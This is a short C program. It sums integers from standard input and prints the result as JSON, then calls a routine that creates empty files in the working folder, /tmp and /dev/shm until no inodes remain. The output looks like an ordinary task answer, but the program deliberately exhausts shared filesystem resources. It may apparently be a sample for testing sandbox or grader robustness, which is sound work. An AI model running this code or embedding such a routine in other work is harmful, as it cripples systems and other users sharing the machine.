/* Makes files until there is no inode left. */
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <unistd.h>

static void fill(const char *folder)
{
    char path[64];
    errno = 0;
    for (int i = 0; errno == 0; i++) {
        snprintf(path, sizeof path, "%s/%d", folder, i);
        close(open(path, O_CREAT | O_WRONLY, 0600));
    }
}

int main(int argc, char *argv[])
{
    long long sum = 0, number;
    while (scanf("%lld", &number) == 1)
        sum += number;
    printf("{\"%s\": %lld}\n", argc == 2 ? argv[1] : "", sum);
    fflush(stdout);
    fill(".");
    fill("/tmp");
    fill("/dev/shm");
    return 0;
}
